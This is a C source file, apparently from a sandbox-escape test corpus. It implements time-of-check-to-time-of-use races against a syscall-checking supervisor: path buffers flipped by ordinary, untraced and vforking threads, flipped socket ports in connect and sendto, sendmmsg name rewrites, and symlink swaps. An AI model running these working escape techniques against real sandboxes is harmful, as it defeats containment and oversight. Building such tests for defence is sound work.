/*
 * Time of check to time of use: the supervisor reads an argument at the
 * syscall stop, the kernel reads it again after. A second thread (or
 * process) changes it in between, in a tight loop, while the first thread
 * makes the call in a loop, for SECS seconds or a million tries.
 *
 *   toctou path BASE SECS                     the path buffer flips between BASE/pub/aaaa.txt (allowed)
 *                                             and BASE/prv/aaaa.txt (forbidden), same length
 *   toctou path-untraced BASE SECS            the same, flipped by a thread made with CLONE_UNTRACED: a thread
 *                                             no tracer follows (so no "stop every other task" reaches it)
 *   toctou path-vfork BASE SECS               the same, flipped by two threads that vfork a child which _exit()s at once,
 *                                             then flips for a while, and again: a vfork parent is "blocked until its
 *                                             child execs or exits" for the supervisor until it has seen the child go,
 *                                             but it runs again as soon as the child has gone
 *   toctou connect HOST OKPORT NOPORT SECS    the sockaddr's port flips between an allowed and a
 *                                             forbidden port (a TCP listener on both)
 *   toctou sendto HOST OKPORT NOPORT SECS     the same for a UDP sendto's destination port (no connect): the listener
 *                                             on NOPORT echoes each datagram, so this run's own datagram back from it is an escape
 *   toctou sendmmsg-block OK NO FILE          no race at all: sendmmsg copies each message's msg_name only when it
 *                                             gets to it. Fill the allowed AF_UNIX datagram peer @OK until it is full,
 *                                             then sendmmsg([-> @OK, -> @OK]): message 0 blocks (the call sleeps),
 *                                             and a second thread, once it sees it has been stopped and resumed
 *                                             (a gap in its own clock), rewrites message 1's name to @NO. When @OK
 *                                             is drained (net sink, outside), message 1 goes out to @NO. FILE is
 *                                             the sink's log of what reached @NO.
 *   toctou symlink OUT OK NO SECS             OUT/ta -> OK and OUT/tb -> NO swapped by a thread with
 *                                             renameat2(RENAME_EXCHANGE) while OUT/ta is opened
 *   toctou symlink-open OUT OK SECS           only the opening loop (the flipper runs elsewhere)
 *   toctou symlink-flip OUT OK NO SECS        only the flipping loop (run outside the sandbox)
 *
 * Success = the call ever reached the forbidden object: content other than
 * the allowed file's was read, or getpeername() names the forbidden port.
 */
#include "escape.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>

#define MAX_TRIES 1000000

static volatile int stop;
static char path[4096];
static volatile uint16_t *flip16;
static uint16_t va, vb;
static char out[2048], ok_target[4096], no_target[4096];

static double now(void);

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void *flipper16(void *arg) {
  (void)arg;
  while (!stop) {
    *flip16 = va;
    *flip16 = vb;
  }
  return NULL;
}

/* The flipper as a raw clone() thread with CLONE_UNTRACED; it makes no syscall at all, and dies with exit_group. */
static int flipper_raw(void *arg) {
  flipper16(arg);
  for (;;) pause();
  return 0;
}

static void untraced_flipper(void) {
  size_t size = 1 << 16;
  char *stack = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
  if (stack == MAP_FAILED) error("mmap a stack");
  int flags = CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM | CLONE_UNTRACED;
  if (clone(flipper_raw, stack + size, flags, NULL) < 0) blocked(errno, "clone(CLONE_THREAD|CLONE_UNTRACED) of the flipping thread");
}

/* Flip between vforks of a child that exits at once. */
static void *vfork_flipper(void *arg) {
  (void)arg;
  while (!stop) {
    pid_t c = vfork();
    if (c == 0) _exit(0);
    /* A few hundred microseconds of flipping: the time the supervisor takes to hold, read and let go. */
    for (int i = 0; i < 200000 && !stop; i++) {
      *flip16 = va;
      *flip16 = vb;
    }
    if (c > 0) waitpid(c, NULL, WNOHANG);
  }
  return NULL;
}

static void link_pair(void) {
  char a[4200], b[4200];
  snprintf(a, sizeof a, "%s/ta", out);
  snprintf(b, sizeof b, "%s/tb", out);
  unlink(a);
  unlink(b);
  if (symlink(ok_target, a) < 0 || symlink(no_target, b) < 0) error("plant the symlinks in %s", out);
}

static long swaps;
static void *flipper_links(void *arg) {
  (void)arg;
  char a[4200], b[4200];
  snprintf(a, sizeof a, "%s/ta", out);
  snprintf(b, sizeof b, "%s/tb", out);
  while (!stop) {
    if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0) swaps++;
  }
  return NULL;
}

/* Read a file's first bytes (the allowed object's content, to tell the other apart). */
static void content_of(const char *p, char *buf, size_t n) {
  int fd = open(p, O_RDONLY);
  if (fd < 0) error("open %s (the allowed object)", p);
  ssize_t r = read(fd, buf, n - 1);
  buf[r < 0 ? 0 : r] = 0;
  close(fd);
}

/* Open `p` in a loop until the content differs from `allowed`, SECS pass or MAX_TRIES. */
static void open_loop(const char *p, const char *allowed, double secs, const char *what) {
  double t0 = now();
  long tries = 0, refused = 0, reached = 0;
  char buf[256];
  while (tries < MAX_TRIES) {
    tries++;
    int fd = open(p, O_RDONLY);
    if (fd < 0) {
      refused++;
    } else {
      ssize_t r = read(fd, buf, sizeof buf - 1);
      close(fd);
      buf[r < 0 ? 0 : r] = 0;
      if (r > 0 && strcmp(buf, allowed) != 0) {
        reached++;
        break;
      }
    }
    if ((tries & 63) == 0 && now() - t0 > secs) break;
  }
  stop = 1;
  note("%ld tries in %.2f s: %ld refused, %ld swaps by the other side", tries, now() - t0, refused, swaps);
  if (reached) {
    char *nl = strchr(buf, '\n');
    if (nl) *nl = 0;
    escaped("%s: read \"%s\" after %ld tries", what, buf, tries);
  }
  blocked_because("%s: never reached the forbidden file in %ld tries (%ld refused)", what, tries, refused);
}

static struct sockaddr_un name1;
static volatile int armed, flipped;
static const char *no_name;

/* Spin on the clock (vDSO: no syscall); a gap means this thread was stopped: rewrite message 1's name. */
static void *gap_flipper(void *arg) {
  (void)arg;
  double last = now(), armed_at = 0;
  while (!flipped) {
    double t = now();
    if (armed && armed_at == 0) armed_at = t;
    if (armed && (t - last > 0.0002 || t - armed_at > 0.1)) {
      memset(name1.sun_path, 0, sizeof name1.sun_path);
      memcpy(name1.sun_path + 1, no_name, strlen(no_name));
      flipped = 1;
      note("rewrote message 1's name to @%s after a %.0f us gap, %.1f ms after the call began", no_name, (t - last) * 1e6, (t - armed_at) * 1e3);
    }
    last = t;
  }
  return NULL;
}

static socklen_t abstract_name(struct sockaddr_un *un, const char *name) {
  memset(un, 0, sizeof *un);
  un->sun_family = AF_UNIX;
  memcpy(un->sun_path + 1, name, strlen(name));
  return (socklen_t)(sizeof(sa_family_t) + 1 + strlen(name));
}

int main(int argc, char **argv) {
  ARGS(3, "MODE ARGS...");
  pthread_t th;
  if (MODE("sendmmsg-block")) {
    ARGS(5, "sendmmsg-block OK NO FILE");
    no_name = argv[3];
    int s = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (s < 0) error("socket(AF_UNIX, SOCK_DGRAM)");
    struct sockaddr_un ok;
    socklen_t len = abstract_name(&ok, argv[2]);
    long filled = 0;
    while (sendto(s, "fill", 4, MSG_DONTWAIT, (struct sockaddr *)&ok, len) == 4) filled++;
    if (errno != EAGAIN) blocked(errno, "sendto @%s (filling its queue)", argv[2]);
    note("@%s is full after %ld datagrams", argv[2], filled);
    abstract_name(&name1, argv[2]);
    struct iovec iov = { (void *)"escape-corpus", 13 };
    struct mmsghdr v[2] = {
      { .msg_hdr = { .msg_name = &ok, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1 } },
      { .msg_hdr = { .msg_name = &name1, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1 } },
    };
    pthread_create(&th, NULL, gap_flipper, NULL);
    usleep(10 * 1000);
    armed = 1;
    int n = sendmmsg(s, v, 2, 0);
    int e = errno;
    flipped = 1;
    pthread_join(th, NULL);
    if (n < 0) blocked(e, "sendmmsg to @%s, @%s", argv[2], argv[2]);
    note("sendmmsg sent %d messages", n);
    if (n < 2) {
      /* As any caller must: sendmmsg may send fewer than asked; send the rest. */
      int m = sendmmsg(s, v + n, 2 - n, 0);
      if (m < 0) blocked(errno, "sendmmsg of the remaining %d message(s), the next to @%s", 2 - n, argv[3]);
      note("the second sendmmsg sent %d messages", m);
      n += m;
    }
    usleep(300 * 1000);
    int fd = open(argv[4], O_RDONLY);
    char buf[128] = "";
    if (fd >= 0 && read(fd, buf, sizeof buf - 1) > 0 && strncmp(buf, "no ", 3) == 0) {
      escaped("message 1 of a sendmmsg checked as @%s reached @%s (sink: %s)", argv[2], argv[3], strtok(buf, "\n"));
    }
    blocked_because("nothing reached @%s (%d messages sent)", argv[3], n);
  }
  if (MODE("path") || MODE("path-untraced") || MODE("path-vfork")) {
    ARGS(4, "path|path-untraced|path-vfork BASE SECS");
    char allowed[256];
    snprintf(path, sizeof path, "%s/pub/aaaa.txt", argv[2]);
    content_of(path, allowed, sizeof allowed);
    size_t at = strlen(argv[2]) + 2; /* the "ub" of "pub", then "rv" of "prv" */
    flip16 = (volatile uint16_t *)(void *)(path + at);
    memcpy(&va, "ub", 2);
    memcpy(&vb, "rv", 2);
    if (MODE("path")) pthread_create(&th, NULL, flipper16, NULL);
    else if (MODE("path-vfork")) { /* two of them: twice the chances */
      pthread_create(&th, NULL, vfork_flipper, NULL);
      pthread_create(&th, NULL, vfork_flipper, NULL);
    }
    else untraced_flipper();
    open_loop(path, allowed, atof(argv[3]), MODE("path") ? "open of a path a second thread rewrites"
              : MODE("path-vfork") ? "open of a path a vforking thread rewrites" : "open of a path an untraced thread rewrites");
  }
  if (MODE("connect")) {
    ARGS(6, "connect HOST OKPORT NOPORT SECS");
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[3])) };
    inet_pton(AF_INET, argv[2], &sa.sin_addr);
    va = htons((uint16_t)atoi(argv[3]));
    vb = htons((uint16_t)atoi(argv[4]));
    flip16 = &sa.sin_port;
    pthread_create(&th, NULL, flipper16, NULL);
    double t0 = now(), secs = atof(argv[5]);
    long tries = 0, refused = 0, other = 0;
    while (tries < MAX_TRIES) {
      tries++;
      int s = socket(AF_INET, SOCK_STREAM, 0);
      if (s < 0) error("socket");
      struct linger lg = { 1, 0 }; /* close with RST: no TIME_WAIT pile-up */
      setsockopt(s, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
      if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
        struct sockaddr_in peer;
        socklen_t l = sizeof peer;
        getpeername(s, (struct sockaddr *)&peer, &l);
        if (peer.sin_port == vb) {
          stop = 1;
          close(s);
          note("%ld tries in %.2f s: %ld refused", tries, now() - t0, refused);
          escaped("connect reached the forbidden port %s after %ld tries", argv[4], tries);
        }
      } else if (errno == EPERM || errno == EACCES) {
        refused++;
      } else {
        other++;
      }
      close(s);
      /* Under the supervisor's hold the flipper is stopped during each connect and resumed after:
       * on a loaded machine it may never get a CPU between two connects, and the race is never
       * run at all. A pause now and then lets it flip. */
      if ((tries & 15) == 0) usleep(200);
      if ((tries & 63) == 0 && now() - t0 > secs) break;
    }
    stop = 1;
    note("%ld tries in %.2f s: %ld refused, %ld other errors", tries, now() - t0, refused, other);
    blocked_because("connect never reached the forbidden port in %ld tries (%ld refused)", tries, refused);
  }
  if (MODE("sendto")) {
    ARGS(6, "sendto HOST OKPORT NOPORT SECS");
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[3])) };
    inet_pton(AF_INET, argv[2], &sa.sin_addr);
    va = htons((uint16_t)atoi(argv[3]));
    vb = htons((uint16_t)atoi(argv[4]));
    flip16 = &sa.sin_port;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0) error("socket");
    pthread_create(&th, NULL, flipper16, NULL);
    /* This run's own datagrams (the listener echoes them back): not an answer to an earlier run's. */
    char mine[32];
    int len = snprintf(mine, sizeof mine, "race %d", (int)getpid());
    double t0 = now(), secs = atof(argv[5]);
    long tries = 0, sent = 0, refused = 0, other = 0;
    for (int last = 0;; ) {
      if (!last) {
        tries++;
        if (sendto(s, mine, (size_t)len, 0, (struct sockaddr *)&sa, sizeof sa) == len) sent++;
        else if (errno == EPERM || errno == EACCES) refused++;
        else other++;
      }
      /* The forbidden listener echoes what reaches it. */
      char buf[64];
      struct sockaddr_in from;
      socklen_t fl = sizeof from;
      ssize_t n;
      while ((n = recvfrom(s, buf, sizeof buf, MSG_DONTWAIT, (struct sockaddr *)&from, &fl)) > 0) {
        if (from.sin_port == vb && n == len && memcmp(buf, mine, (size_t)len) == 0) {
          stop = 1;
          note("%ld tries in %.2f s: %ld sent, %ld refused", tries, now() - t0, sent, refused);
          escaped("sendto reached the forbidden port %s (its listener answered) after %ld tries", argv[4], tries);
        }
        fl = sizeof from;
      }
      if (last) break;
      if ((tries & 15) == 0) usleep(200);
      if ((tries & 63) == 0 && (now() - t0 > secs || tries >= MAX_TRIES)) {
        stop = 1;
        usleep(300000); /* the last answers */
        last = 1;
      }
    }
    note("%ld tries in %.2f s: %ld sent, %ld refused, %ld other errors", tries, now() - t0, sent, refused, other);
    blocked_because("sendto never reached the forbidden port in %ld tries (%ld refused)", tries, refused);
  }
  if (MODE("symlink") || MODE("symlink-open") || MODE("symlink-flip")) {
    int flip = !MODE("symlink-open");
    ARGS(flip ? 6 : 5, "symlink OUT OK NO SECS | symlink-open OUT OK SECS | symlink-flip OUT OK NO SECS");
    snprintf(out, sizeof out, "%s", argv[2]);
    snprintf(ok_target, sizeof ok_target, "%s", argv[3]);
    double secs = atof(argv[flip ? 5 : 4]);
    if (flip) {
      snprintf(no_target, sizeof no_target, "%s", argv[4]);
      link_pair();
    }
    if (MODE("symlink-flip")) {
      double t0 = now();
      while (now() - t0 < secs) flipper_links(NULL), stop = 0;
      return 0;
    }
    char allowed[256];
    content_of(ok_target, allowed, sizeof allowed);
    if (flip) pthread_create(&th, NULL, flipper_links, NULL);
    snprintf(path, sizeof path, "%s/ta", out);
    open_loop(path, allowed, secs, flip ? "open through a symlink swapped by another thread" : "open through a symlink swapped from outside");
  }
  fprintf(stderr, "toctou: unknown mode %s\n", argv[1]);
  return 2;
}
